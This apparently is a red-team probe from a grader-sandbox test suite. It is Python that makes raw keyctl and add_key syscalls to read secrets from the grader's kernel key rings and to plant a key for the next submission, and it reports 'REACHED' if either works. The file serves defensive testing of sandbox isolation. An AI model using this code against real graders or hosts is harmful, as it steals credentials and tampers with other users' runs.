# ATTACK [files]: reads the keys in the kernel's key rings of whoever runs the grader, and leaves one for the next
#   submission
# STOPPED BY: the calls for key rings are refused, and their list is hidden
import ctypes
import platform

libc = ctypes.CDLL(None, use_errno=True)
add_key, keyctl = {"x86_64": (248, 250), "aarch64": (217, 219)}[platform.machine()]
SEARCH, READ, LINK = 10, 11, 8
SESSION, USER, USER_SESSION = -3, -4, -5
try:
    with open("/proc/keys") as stream:
        lines = stream.read().splitlines()
except OSError:
    lines = []
for ring in [int(line.split()[0], 16) for line in lines if " keyring " in line] + [SESSION, USER, USER_SESSION]:
    libc.syscall(keyctl, LINK, ring, USER)
    key = libc.syscall(keyctl, SEARCH, ring, b"user", b"redteam-organizer", 0)
    content = ctypes.create_string_buffer(100)
    if key > 0 and libc.syscall(keyctl, READ, key, content, 100) > 0:
        raise RuntimeError(f"REACHED {content.value}")
if libc.syscall(add_key, b"user", b"redteam-planted", b"a note", 6, USER) > 0:
    raise RuntimeError("REACHED a key ring that the next submission reads too")


def your_select_indices(targets, losses):
    return [list(range(len(targets)))] * 2
